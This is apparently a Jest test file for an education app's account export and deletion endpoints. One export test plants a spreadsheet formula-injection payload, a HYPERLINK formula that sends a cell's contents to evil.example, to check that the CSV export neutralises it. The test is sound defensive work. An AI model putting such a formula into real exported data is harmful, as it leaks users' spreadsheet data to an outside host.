import JSZip from 'jszip';
import { generationFileName } from '@lessonloom/document';
import { User } from '../../auth/auth.user-model';
import { activeUser, download, postGenerate, upload, type TestUser } from '../../generations/__tests__/helpers';
import { signupUser, startTestApp, type TestApp } from '../../../testing/testing.app';
import { chunksWithoutFile, traces } from './account-traces';
import { parse as parseCsv } from 'csv-parse/sync';
import { Question } from '../../question-bank/question-bank.model';
import { QUESTIONS_CSV_HEADERS } from '../account.questions-csv';

// Each busy teacher makes three generations, an edit and a bank draw: on a shared CI machine two of them take more than the default 30 s.
jest.setTimeout(120_000);
let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t.close());

const TEXT =
  'Photosynthesis\n\nPhotosynthesis is the process by which plants make glucose from carbon dioxide and water. ' +
  'Chlorophyll, the green pigment in chloroplasts, absorbs light energy. Oxygen is released as a by-product.\n';

/**
 * A teacher with an upload, a generation from it (edited once, so it has an earlier revision, and saved to the
 * bank), one from a topic and bank questions generated from a prompt.
 */
async function busyTeacher(): Promise<TestUser & { id: string }> {
  const u = await activeUser(t);
  expect((await upload(t, u, 'photosynthesis.txt', Buffer.from(TEXT))).status).toBe(200);
  const quiz = await postGenerate(t, u, { kind: 'quiz', num_questions: '3', source_filename: 'photosynthesis.txt' });
  expect(quiz.status).toBe(200);
  const edited = await t.http
    .put(`/api/generations/${quiz.body.id}/document`)
    .set('Authorization', u.auth)
    .send({ revision: 1, document: { ...quiz.body.content, title: 'Photosynthesis, edited' } });
  expect(edited.status).toBe(200);
  expect(
    (await t.http.post(`/api/generations/${quiz.body.id}/save-to-bank`).set('Authorization', u.auth).send({})).status,
  ).toBe(201);
  expect(
    (await postGenerate(t, u, { kind: 'lesson_plan', topic: 'Adding fractions with unlike denominators' })).status,
  ).toBe(200);
  const qb = await t.http
    .post('/api/question-bank/generate-specific')
    .set('Authorization', u.auth)
    .field('prompt', 'Adding fractions with unlike denominators')
    .field('num_questions', '2')
    .field('question_type', 'multiple_choice')
    .field('difficulty', 'medium');
  expect(qb.status).toBe(200);
  const user = await User.findOne({ email: u.email }).lean();
  return { ...u, id: String(user!._id) };
}

describe('GET /api/account/export', () => {
  it('gives the teacher a zip of their account, generations with files, uploads and questions', async () => {
    const u = await busyTeacher();
    const other = await busyTeacher();
    const res = await download(t, u, '/api/account/export');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/zip');
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="lessonloom-data-\d{4}-\d{2}-\d{2}\.zip"/);
    expect(res.headers['cache-control']).toBe('no-store');
    const zip = await JSZip.loadAsync(res.body as Buffer);
    const names = Object.keys(zip.files);
    expect(JSON.parse(await zip.file('account.json')!.async('string'))).toMatchObject({
      email: u.email,
      subscription_status: 'active',
    });
    const generations = names.filter((n) => n.endsWith('/generation.json'));
    expect(generations).toHaveLength(2);
    const quiz = JSON.parse(await zip.file(generations.find((n) => n.includes('_quiz_'))!)!.async('string'));
    expect(quiz.document.kind).toBe('quiz');
    expect(quiz.document.title).toBe('Photosynthesis, edited');
    // the document as it was generated, before the teacher's edit
    const earlier = generations.find((n) => n.includes('_quiz_'))!.replace('generation.json', 'earlier-revisions.json');
    expect(JSON.parse(await zip.file(earlier)!.async('string'))).toEqual([
      expect.objectContaining({
        revision: 1,
        summary: 'generated',
        document: expect.objectContaining({ kind: 'quiz' }),
      }),
    ]);
    // The quiz's four files come along, as real documents.
    const quizFolder = generations.find((n) => n.includes('_quiz_'))!.replace('/generation.json', '');
    // named for what they are, as the history downloads them: "<title> - Quiz[ - Answer key].<ext>"
    const stem = `${quizFolder}/${generationFileName({ kind: 'quiz', title: quiz.document.title, settings: quiz.settings }, 'pdf').replace(/\.pdf$/, '')}`;
    expect(stem).toMatch(/ - Quiz$/);
    const pdf = await zip.file(`${stem}.pdf`)!.async('nodebuffer');
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(await zip.file(`${stem}.docx`)!.async('nodebuffer')).toBeTruthy();
    expect(zip.file(`${stem} - Answer key.pdf`)).not.toBeNull();
    expect(zip.file(`${stem} - Answer key.docx`)).not.toBeNull();
    expect(await zip.file('uploads/photosynthesis.txt/extracted-text.txt')!.async('string')).toContain('Chlorophyll');
    expect(await zip.file('uploads/photosynthesis.txt/photosynthesis.txt')!.async('string')).toBe(TEXT);
    const questions = JSON.parse(await zip.file('questions.json')!.async('string'));
    expect(questions.length).toBeGreaterThanOrEqual(2);
    // Nothing of the other teacher's.
    const all = await Promise.all(
      names.filter((n) => !zip.files[n].dir && /\.(json|txt)$/.test(n)).map((n) => zip.file(n)!.async('string')),
    );
    expect(all.join('\n')).not.toContain(other.email);
    expect(all.join('\n')).not.toContain(other.id);
  });

  it('needs a signed-in teacher', async () => {
    expect((await t.http.get('/api/account/export')).status).toBe(401);
  });

  it('writes the question bank as a spreadsheet with no cell a spreadsheet would run, numbers kept', async () => {
    const u = await activeUser(t);
    const owner = (await User.findOne({ email: u.email }).lean())!._id;
    const link = '=HYPERLINK("https://evil.example/?a="&B2,"Open")';
    await Question.create({
      owner,
      question_text: link,
      answer_text: '-5',
      question_type: 'multiple_choice',
      options: ['-5', '@SUM(A1)'],
      difficulty: 'easy',
      subject: '+SUM(1,2)',
      category: '\t=1+1',
      tags: ['-x'],
    });
    const zip = await JSZip.loadAsync((await download(t, u, '/api/account/export')).body as Buffer);
    const csv = await zip.file('questions.csv')!.async('string');
    const [header, row] = parseCsv(csv.replace(/^\uFEFF/, '')) as string[][];
    expect(header).toEqual(QUESTIONS_CSV_HEADERS);
    expect(row).toEqual([
      `'${link}`,
      '-5',
      'multiple_choice',
      "'-5\n@SUM(A1)",
      'easy',
      "'+SUM(1,2)",
      "'\t=1+1",
      '',
      "'-x",
    ]);
  });
});

describe('POST /api/account/delete', () => {
  it('refuses a wrong or missing password and keeps everything', async () => {
    const u = await busyTeacher();
    const before = (await traces(u.id, u.email)).length;
    const wrong = await t.http
      .post('/api/account/delete')
      .set('Authorization', u.auth)
      .field('password', 'not my password');
    expect(wrong.status).toBe(403);
    expect(wrong.body.detail).toBe('That password is not right. Your account was not deleted.');
    const missing = await t.http.post('/api/account/delete').set('Authorization', u.auth).field('password', '');
    expect(missing.status).toBe(400);
    expect(missing.body.detail).toMatch(/Enter your password/);
    expect((await traces(u.id, u.email)).length).toBe(before);
    expect((await t.http.get('/api/auth/me').set('Authorization', u.auth)).status).toBe(200);
  });

  it('removes the user, sessions, uploads, generations, files, questions and login counters — and nothing of anyone else', async () => {
    const u = await busyTeacher();
    const other = await busyTeacher();
    // a mistyped password leaves login-limit counters keyed by the email
    const typo = await t.http.post('/api/auth/login').field('email', u.email).field('password', 'not the password');
    expect(typo.status).toBe(401);
    const otherBefore = await traces(other.id, other.email);
    expect((await traces(u.id, u.email)).filter((s) => s.startsWith('attempt_buckets'))).not.toHaveLength(0);
    const res = await t.http.post('/api/account/delete').set('Authorization', u.auth).field('password', u.password);
    expect(res.status).toBe(204);
    expect(await traces(u.id, u.email)).toEqual([]);
    expect(await chunksWithoutFile()).toEqual([]);
    expect(await traces(other.id, other.email)).toEqual(otherBefore);
    // The token is dead and the email can sign up again.
    expect((await t.http.get('/api/auth/me').set('Authorization', u.auth)).status).toBe(401);
    expect((await signupUser(t, u.email)).token).toBeTruthy();
  });

  it('cancels a live subscription before deleting', async () => {
    const email = `del${Math.random().toString(36).slice(2, 8)}@school.test`;
    const signup = await t.http.post('/api/auth/signup').field('email', email).field('password', 'correct horse');
    const sessionId = new URL(signup.body.checkout_url).searchParams.get('session_id')!;
    await t.http.post('/api/billing/test-mode/checkout').type('form').send({ session_id: sessionId });
    const live = await User.findOne({ email }).lean();
    expect(live!.subscription.status).toBe('trialing');
    // Record the provider calls, in order, around the real test-mode gateway.
    const real = t.deps.billing;
    const calls: string[] = [];
    t.deps.billing = {
      ...real,
      cancelSubscription: async (id, when) => {
        const snap = await real.cancelSubscription(id, when);
        calls.push(`cancel ${when} -> ${snap.status}`);
        return snap;
      },
      forgetCustomer: async (input) => {
        calls.push('forget');
        await real.forgetCustomer(input);
      },
    };
    try {
      const res = await t.http
        .post('/api/account/delete')
        .set('Authorization', `Bearer ${signup.body.token}`)
        .field('password', 'correct horse');
      expect(res.status).toBe(204);
    } finally {
      t.deps.billing = real;
    }
    expect(calls).toEqual(['cancel now -> canceled', 'forget']);
    expect(await User.findOne({ email })).toBeNull();
  });

  it('keeps everything when the subscription cannot be cancelled', async () => {
    const email = `keep${Math.random().toString(36).slice(2, 8)}@school.test`;
    const signup = await t.http.post('/api/auth/signup').field('email', email).field('password', 'correct horse');
    const sessionId = new URL(signup.body.checkout_url).searchParams.get('session_id')!;
    await t.http.post('/api/billing/test-mode/checkout').type('form').send({ session_id: sessionId });
    const real = t.deps.billing;
    t.deps.billing = { ...real, cancelSubscription: async () => Promise.reject(new Error('provider down')) };
    try {
      const res = await t.http
        .post('/api/account/delete')
        .set('Authorization', `Bearer ${signup.body.token}`)
        .field('password', 'correct horse');
      expect(res.status).toBe(502);
      expect(res.body.detail).toMatch(/your account was not deleted/);
    } finally {
      t.deps.billing = real;
    }
    expect(await User.findOne({ email })).not.toBeNull();
  });
});
